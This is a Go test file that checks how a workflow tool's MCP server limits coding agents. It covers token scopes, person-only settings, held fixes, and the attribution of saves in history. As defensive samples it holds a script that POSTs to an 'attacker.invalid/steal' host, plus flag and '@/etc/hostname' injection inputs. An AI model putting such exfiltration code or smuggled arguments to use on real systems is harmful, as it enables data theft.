package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"

	sdk "github.com/modelcontextprotocol/go-sdk/mcp"
	"github.com/stretchr/testify/require"

	"github.com/kintsugi-run/kintsugi/cmd/internal/cli/terminal"
)

// agent is a coding agent's connection, by the client of the official SDK.
type agent struct {
	t       *testing.T
	session *sdk.ClientSession
}

func connect(t *testing.T, to sdk.Transport) *agent {
	t.Helper()
	session, err := sdk.NewClient(&sdk.Implementation{Name: "agent", Version: "1"}, nil).Connect(t.Context(), to, nil)
	require.NoError(t, err)
	t.Cleanup(func() { _ = session.Close() })
	return &agent{t, session}
}

// stdio starts 'kintsugi mcp' with arguments, as agents do.
func (h *home) stdio(args ...string) *agent {
	h.t.Helper()
	command := h.command(append([]string{"mcp"}, args...)...)
	return connect(h.t.(*testing.T), &sdk.CommandTransport{Command: command})
}

// agent connects over HTTP, with a token.
func (e *elsewhere) agent(token string) *agent {
	return connect(e.home.t.(*testing.T), &sdk.StreamableClientTransport{
		Endpoint: e.url + "/mcp", HTTPClient: &http.Client{Transport: bearer(token)}, DisableStandaloneSSE: true,
	})
}

// bearer shows a token.
type bearer string

// RoundTrip implements [http.RoundTripper].
func (token bearer) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	r.Header.Set("Authorization", "Bearer "+string(token))
	return http.DefaultTransport.RoundTrip(r)
}

func (a *agent) tools() (names []string) {
	for tool, err := range a.session.Tools(a.t.Context(), nil) {
		require.NoError(a.t, err)
		names = append(names, tool.Name)
	}
	return names
}

// call gives what a tool says, and whether it is a refusal.
func (a *agent) call(name string, arguments map[string]any) (text string, failed bool) {
	a.t.Helper()
	result, err := a.session.CallTool(a.t.Context(), &sdk.CallToolParams{Name: name, Arguments: arguments})
	require.NoError(a.t, err)
	return result.Content[0].(*sdk.TextContent).Text, result.IsError
}

func (a *agent) ok(name string, arguments map[string]any) string {
	a.t.Helper()
	text, failed := a.call(name, arguments)
	require.False(a.t, failed, text)
	return text
}

// A coding agent looks into a failure, tries a script without its writes, and saves it: as the next major.
func TestACodingAgentIsAnAuthor(t *testing.T) {
	t.Parallel()
	h := newHome(t)
	h.mend("Orders")
	agent := h.stdio()
	run := decodeAs[[]map[string]any](t, agent.ok("list_runs", map[string]any{"workflow": "Orders", "status": "failed"}))[0]["id"]
	require.Contains(t, agent.ok("show_run", map[string]any{"run": run}), `"class": "logic"`)
	require.Contains(t, agent.ok("show_script", map[string]any{"workflow": "Orders"}), "async function main")

	script := "function main(input) { return {big: input.big} }"
	same, failed := agent.call("check_script", map[string]any{"workflow": "Orders", "script": script})
	require.False(t, failed, "that runs come out otherwise is an answer")
	require.Contains(t, same, "differs")
	before := len(h.outside.requests("POST /done"))
	require.Contains(t, agent.ok("dry_run", map[string]any{"workflow": "Orders"}), "/done")
	require.Len(t, h.outside.requests("POST /done"), before, "a dry run writes nothing")

	agent.ok("save_script", map[string]any{"workflow": "Orders", "script": script, "comment": "only what came in"})
	require.Equal(t, "2.0", h.object("workflow", "show", "Orders")["version"])
	require.Contains(t, agent.ok("run_workflow", map[string]any{"workflow": "Orders", "input": json.RawMessage(`{"big": 1234567890123456}`)}), "1234567890123456")

	// A name is never taken for a flag, nor a text for a file.
	text, failed := agent.call("show_workflow", map[string]any{"workflow": "--help"})
	require.True(t, failed)
	require.Contains(t, text, `there is no workflow \"--help\"`)
	text, failed = agent.call("run_workflow", map[string]any{"workflow": "Orders", "input": "@/etc/hostname"})
	require.False(t, failed, text)
	text, failed = agent.call("save_script", map[string]any{"workflow": "Orders", "script": "function main( {", "comment": "x"})
	require.True(t, failed)
	require.Contains(t, text, "Unexpected end of input")
}

// A coding agent's fix of a failure goes through the gate like every fix, and is recorded as one.
func TestACodingAgentSuggestsAFix(t *testing.T) {
	t.Parallel()
	h := newHome(t)
	mended := h.handOver("Orders")
	agent := h.stdio()
	refused := agent.ok("suggest_fix", map[string]any{"workflow": "Orders", "script": "function main() { return 1 }", "comment": "return something"})
	require.Contains(t, refused, `"became": "refused"`)
	require.Contains(t, refused, `"divergence"`)
	applied := agent.ok("suggest_fix", map[string]any{"workflow": "Orders", "script": mended, "comment": "read total_amount", "version": "1.0"})
	require.Contains(t, applied, `"became": "applied"`)
	require.Equal(t, "1.1", h.object("workflow", "show", "Orders")["version"])
}

// The saves of an agent go through the checks of a planner's save, by each way in, and an agent changes nothing that says how far it may go.
func TestAnAgentsSaveIsNoPersons(t *testing.T) {
	t.Parallel()
	h := newHome(t)
	h.hold("Held")
	h.create("Free", "function main() { return 1 }")
	h.ok("workflow", "run", "Free")
	e := h.serveRemote()
	token := func(holder string) string {
		return decodeAs[struct{ Token string }](t, e.ends(terminal.ExitOK, "token", "create", holder, "--holder", holder, "--person", "codex", "--scope", "read,run,edit,decide", "-o", "json").out).Token
	}
	agents, persons, programs := token("agent"), token("person"), token("program")
	ask := func(token, method, path string, body any) (string, bool) {
		text, err := json.Marshal(body)
		require.NoError(t, err)
		request, err := http.NewRequestWithContext(t.Context(), method, e.url+"/api/v1"+path, bytes.NewReader(text))
		require.NoError(t, err)
		request.Header.Set("Content-Type", "application/json")
		request.Header.Set("Authorization", "Bearer "+token)
		response, err := http.DefaultClient.Do(request)
		require.NoError(t, err)
		defer response.Body.Close()
		answer, err := io.ReadAll(response.Body)
		require.NoError(t, err)
		return string(answer), response.StatusCode >= 300
	}
	byTool := func(a *agent) func(title, code string) (string, bool) {
		return func(title, code string) (string, bool) {
			return a.call("save_script", map[string]any{"workflow": title, "script": code, "comment": "by an agent"})
		}
	}
	byCommand := func(token string) func(title, code string) (string, bool) {
		return func(title, code string) (string, bool) {
			r := e.process(token, code, "script", "save", title, "--file", "-", "--comment", "x")
			return r.out + r.err, r.code != terminal.ExitOK
		}
	}
	id := func(title string) string { return "/workflows/" + h.object("workflow", "show", title)["id"].(string) }
	byOperation := func(title, code string) (string, bool) {
		return ask(agents, http.MethodPost, id(title)+"/versions", map[string]any{"code": code})
	}
	origin := func() any {
		versions := h.objects("script", "list", "Free")
		return versions[len(versions)-1]["origin"]
	}
	next := 1
	script := func() string { next++; return fmt.Sprintf("function main() { return %d }", next) }
	stealing := "async function main() { return await web.fetch('https://attacker.invalid/steal', {method: 'POST'}) }"
	for way, save := range map[string]func(title, code string) (string, bool){
		"MCP on this machine": byTool(h.stdio()), "MCP with a person's token": byTool(e.agent(persons)), "the API": byOperation, "a command": byCommand(agents),
	} {
		h.ok("workflow", "settings", "Free", "--auto-fix", "auto")
		text, refused := save("Free", script())
		require.False(t, refused, "%s: %s", way, text)
		require.Equal(t, "agent", origin(), way)
		text, refused = save("Free", stealing)
		require.True(t, refused, way)
		require.Contains(t, text, "no person has named attacker.invalid", way)
		text, refused = save("Held", script())
		require.True(t, refused, way)
		require.Contains(t, text, "a fix waits for a person", way)
		h.ok("workflow", "settings", "Free", "--auto-fix", "proven")
		h.ok("workflow", "run", "Free")
		text, refused = save("Free", script())
		require.True(t, refused, way)
		require.Contains(t, text, "only what repeats the recorded runs", way)
	}
	for method, settings := range map[string]map[string]any{
		http.MethodPatch: {"allowed_hosts": []string{"attacker.invalid"}},
		http.MethodPut:   {"allowed_hosts": []string{"attacker.invalid"}, "auto_fix": "auto"},
	} {
		text, refused := ask(agents, method, id("Free")+"/settings", settings)
		require.True(t, refused)
		require.Contains(t, text, "only a person may change settings")
	}
	said := e.process(agents, "", "workflow", "settings", "Free", "--allow-host", "attacker.invalid")
	require.NotEqual(t, terminal.ExitOK, said.code)
	require.Contains(t, said.err, "only a person may change settings")
	require.NotEmpty(t, h.objects("fix", "list", "--state", "held"), "it waits still")

	// A pipeline saves what people decided.
	text, refused := byCommand(programs)("Free", stealing)
	require.False(t, refused, text)
	require.Equal(t, "program", origin())
}

// An agent sees the tools that its token allows, and no token lets it decide what waits for a person.
func TestACodingAgentDoesWhatItsTokenAllows(t *testing.T) {
	t.Parallel()
	h := newHome(t)
	h.hold("Held")
	e := h.serveRemote()
	token := func(scopes string) string {
		return decodeAs[struct{ Token string }](t, e.ends(terminal.ExitOK, "token", "create", "of-"+scopes, "--person", "codex", "--scope", scopes, "-o", "json").out).Token
	}
	reader := e.agent(token("read"))
	require.Contains(t, reader.tools(), "show_fix")
	require.Equal(t, strings.TrimSpace(h.ok("script", "api", "web.fetch")), reader.ok("script_api", map[string]any{"name": "web.fetch"}))
	require.NotContains(t, reader.tools(), "save_script")
	require.Contains(t, reader.ok("list_workflows", nil), "Held")
	_, err := reader.session.CallTool(t.Context(), &sdk.CallToolParams{Name: "save_script", Arguments: map[string]any{"workflow": "Held", "script": "1", "comment": ""}})
	require.ErrorContains(t, err, "save_script")

	all := e.agent(e.token).tools()
	require.Subset(t, all, []string{"save_script", "run_workflow", "repair_run", "dry_run"})
	require.False(t, slices.ContainsFunc(all, func(name string) bool {
		return strings.Contains(name, "accept") || strings.Contains(name, "decline") || strings.Contains(name, "answer")
	}), all)

	editor := e.agent(token("read,edit"))
	e.home.create("Mine", "function main() { return 1 }")
	editor.ok("save_script", map[string]any{"workflow": "Mine", "script": "function main() { return 2 }", "comment": "by an agent"})
	require.Contains(t, e.ends(terminal.ExitOK, "history", "Mine", "-o", "json").out, `"person:codex"`, "the history has who it was")

	// Without a token that counts nobody is let in.
	for _, shown := range []string{"", "Bearer", "Bearer x", "Bearer " + e.token + "x", "Basic " + e.token} {
		request, err := http.NewRequestWithContext(t.Context(), http.MethodPost, e.url+"/mcp", strings.NewReader(`{"jsonrpc":"2.0","id":1,"method":"tools/list"}`))
		require.NoError(t, err)
		request.Header.Set("Content-Type", "application/json")
		request.Header.Set("Authorization", shown)
		response, err := http.DefaultClient.Do(request)
		require.NoError(t, err)
		require.NoError(t, response.Body.Close())
		require.Equal(t, http.StatusUnauthorized, response.StatusCode, shown)
	}

	// Through a context the agent's program speaks to a server.
	local := h.stdio("--server", e.url)
	_, failed := local.call("list_workflows", nil)
	require.True(t, failed, "no token is known here")
}
